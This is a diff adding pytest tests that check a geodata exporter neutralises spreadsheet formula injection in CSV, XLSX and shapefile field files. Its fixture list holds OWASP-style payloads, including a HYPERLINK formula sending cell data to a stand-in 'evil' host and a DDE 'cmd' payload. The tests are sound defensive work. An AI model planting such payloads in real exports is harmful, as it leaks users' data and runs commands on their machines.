@@ -392,3 +392,70 @@ def test_xlsx_keeps_20_digit_codes_and_chinese(tmp_path: Path, grids: gpd.GeoDat
     assert name_cell.value == "东风社区"
     assert hh_cell.data_type == "n" and hh_cell.value == 312
     assert ws.cell(3, 7).value is None  # NaN share left empty
+
+
+# ---------------------------------------------------------------------- formula injection
+
+#: Text a spreadsheet would run as a formula (OWASP "CSV Injection" examples).
+HOSTILE = [
+    '=HYPERLINK("http://evil"&A1,"x")',
+    "@SUM(A1)",
+    "+1+1",
+    "-2+3",
+    "=cmd|' /C calc'!A0",
+    "\tTAB",
+    "\rCR",
+]
+
+
+def _hostile_table() -> pd.DataFrame:
+    n = len(HOSTILE)
+    return pd.DataFrame(
+        {
+            "name": HOSTILE,
+            "ok": ["东风社区"] * n,
+            "households": [-2, 0, 5, -7, 3, 1, 2],  # negative numbers stay numbers
+            "share": [-1.5, 0.25, np.nan, 1.0, -0.5, 2.0, 3.0],
+            "=code": ["a"] * n,  # a header is a cell too
+        }
+    )
+
+
+def test_csv_prefixes_formula_text_and_keeps_numbers(tmp_path: Path) -> None:
+    import csv
+
+    path = ex.write_csv(_hostile_table(), tmp_path / "t.csv")
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["name", "ok", "households", "share", "'=code"]
+    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
+    assert [r[1] for r in rows[1:]] == ["东风社区"] * len(HOSTILE)
+    assert [r[2] for r in rows[1:]] == ["-2", "0", "5", "-7", "3", "1", "2"]
+    assert [r[3] for r in rows[1:]] == ["-1.5", "0.25", "", "1.0", "-0.5", "2.0", "3.0"]
+    back = pd.read_csv(path, encoding="utf-8-sig")
+    assert back["households"].dtype.kind == "i" and back["share"].dtype.kind == "f"
+    assert [ex.unquote_cell(v) for v in back["name"]] == HOSTILE  # the prefix undone
+
+
+def test_xlsx_has_no_formula_cells_and_keeps_the_text(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    path = ex.write_xlsx({"t": _hostile_table()}, tmp_path / "t.xlsx")
+    ws = load_workbook(path)["t"]
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    # shown as typed, in a text cell (XML reads a carriage return back as a line feed)
+    assert [c.value for c in ws["A"][1:]] == [h.replace("\r", "\n") for h in HOSTILE]
+    assert all(c.data_type == "s" and c.quotePrefix for c in ws["A"][1:])
+    assert ws["E1"].value == "=code" and ws["E1"].data_type == "s"
+    assert [c.value for c in ws["C"][1:]] == [-2, 0, 5, -7, 3, 1, 2]
+    assert all(c.data_type == "n" for c in ws["C"][1:])
+    assert ws["D2"].value == -1.5 and ws["D2"].data_type == "n"
+
+
+def test_fields_csv_round_trips_a_formula_like_column_name(
+    tmp_path: Path, grids: gpd.GeoDataFrame
+) -> None:
+    ex.write_shapefiles(tmp_path, layers={"grids": grids.rename(columns={"code": "=code"})})
+    assert "'=code" in (tmp_path / "fields.csv").read_text("utf-8-sig")
+    assert ex.read_fields_csv(tmp_path)["grids"]["=code"] == "=code"
